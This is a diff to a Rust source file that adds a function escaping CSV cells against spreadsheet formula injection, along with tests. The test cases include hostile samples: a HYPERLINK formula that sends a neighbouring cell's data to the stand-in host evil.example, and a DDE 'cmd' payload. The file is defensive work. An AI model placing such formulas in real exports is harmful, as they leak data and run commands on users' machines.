@@ -90,3 +90,41 @@ mod tests {
         assert!(!kept.contains('\0'));
     }
 }
+
+/// A cell of a CSV export as spreadsheet programs open it safely: a cell that begins with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return would be read as a formula (a
+/// `HYPERLINK` that sends the neighbouring cells away, a DDE command), so it gets a leading
+/// `'`, which the programs take as "text" and do not show. A phone `+49...` stays readable
+/// (and is no longer turned into a number).
+pub fn spreadsheet_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
+#[cfg(test)]
+mod spreadsheet_tests {
+    use super::spreadsheet_cell;
+
+    #[test]
+    fn formula_triggers_are_neutralised_and_plain_text_is_kept() {
+        for (given, exported) in [
+            (
+                "=HYPERLINK(\"https://evil.example/?\"&F2)",
+                "'=HYPERLINK(\"https://evil.example/?\"&F2)",
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("+4915155550000", "'+4915155550000"),
+            ("Erika", "Erika"),
+            ("", ""),
+            ("a=b", "a=b"),
+        ] {
+            assert_eq!(spreadsheet_cell(given), exported, "{given:?}");
+        }
+    }
+}
